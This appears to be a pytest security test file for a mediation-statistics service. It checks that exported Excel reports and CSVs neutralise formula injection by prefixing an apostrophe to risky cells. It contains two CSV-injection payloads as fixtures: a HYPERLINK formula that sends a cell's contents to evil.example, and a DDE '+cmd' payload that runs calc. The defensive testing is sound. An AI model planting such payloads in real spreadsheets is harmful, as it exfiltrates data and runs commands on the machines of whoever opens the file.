"""Spreadsheets the services write show what people typed and never run it: a name filed as
a formula reaches a bureau's Excel as text (the stats monthly report, the registry's CSV)."""

from __future__ import annotations

import io
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook

from tiaojie.runtime.exports import safe_cell
from tiaojie.stats.reports import Report, render_xlsx

pytestmark = [pytest.mark.unit, pytest.mark.security]

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'


def test_a_formula_filed_as_a_name_is_text_in_the_monthly_report() -> None:
    report = Report(
        month="2026-03",
        counties=[],
        townships=[],
        categories=[],
        daily=[],
        alerts=[],
        compliance=[
            {
                "county": "兰山区",
                "organisations": 1,
                "mediators": 0,
                "full_time_qualified": 0,
                "unfiled": ATTACK,
                "suspended_or_revoked": "+cmd|' /C calc'!A0",
                "certificates_expired": 0,
                "certificates_expiring": 0,
                "staffing": [],
            }
        ],
        generated_at=datetime(2026, 4, 1, tzinfo=UTC),
    )
    book = load_workbook(io.BytesIO(render_xlsx(report)))
    row = next(book["规范化建设"].iter_rows(min_row=4, values_only=True))
    assert row[4] == "'" + ATTACK and row[5] == "'+cmd|' /C calc'!A0"
    assert row[1] == 1  # numbers stay numbers


def test_every_formula_start_is_neutralised_and_nothing_else() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(start + "1+1") == "'" + start + "1+1"
    assert safe_cell("兰山区调解中心") == "兰山区调解中心"
    assert safe_cell(-3) == -3 and safe_cell(None) is None
